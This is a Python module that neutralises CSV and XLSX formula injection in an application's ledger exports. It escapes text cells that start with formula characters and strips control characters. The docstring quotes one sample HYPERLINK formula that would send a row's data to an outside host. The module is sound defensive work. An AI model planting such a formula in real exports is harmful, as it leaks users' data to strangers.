"""A cell of a spreadsheet export (CSV or XLSX) as text a spreadsheet program shows and never runs.

Excel, WPS and LibreOffice read a cell whose text begins with `=`, `+`, `-` or `@` (also after a
tab or a carriage return, and in Chinese input their full-width forms `＝ ＋ － ＠`) as a formula:
an exclusion reason `=HYPERLINK("http://…?"&A2, "点此")` typed by one user becomes a link that sends
the row to a stranger when another user opens the ledger. Such a cell is exported with a leading
apostrophe, which all of them show as text (OWASP, "CSV Injection"). Numbers, dates and booleans are
not text and pass unchanged.

Control characters an XLSX cannot hold (XML 1.0: anything below 0x20 but tab, LF and CR) are
dropped first, for both formats, so they can neither break an export nor hide a formula behind them.

Every export (routing's ledger, intake's reports, the grid's and self-governance's ledgers) writes its
cells through `cell`, and a plain table through `csv_bytes` / `xlsx_bytes`.
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence

from openpyxl import Workbook

MEDIA_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def cell(value):
    """The value as an export writes it: text that would start a formula behind an apostrophe."""
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("", value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """A CSV with a BOM, so Excel opens the Chinese text correctly."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(headers)
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return buf.getvalue().encode("utf-8-sig")


def xlsx_bytes(sheet: str, headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet)
    ws.append(list(headers))
    for row in rows:
        ws.append([cell(v) for v in row])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def table(fmt: str, sheet: str, headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """The table in `fmt` (`csv` or `xlsx`; the caller has checked it against MEDIA_TYPES)."""
    return csv_bytes(headers, rows) if fmt == "csv" else xlsx_bytes(sheet, headers, rows)
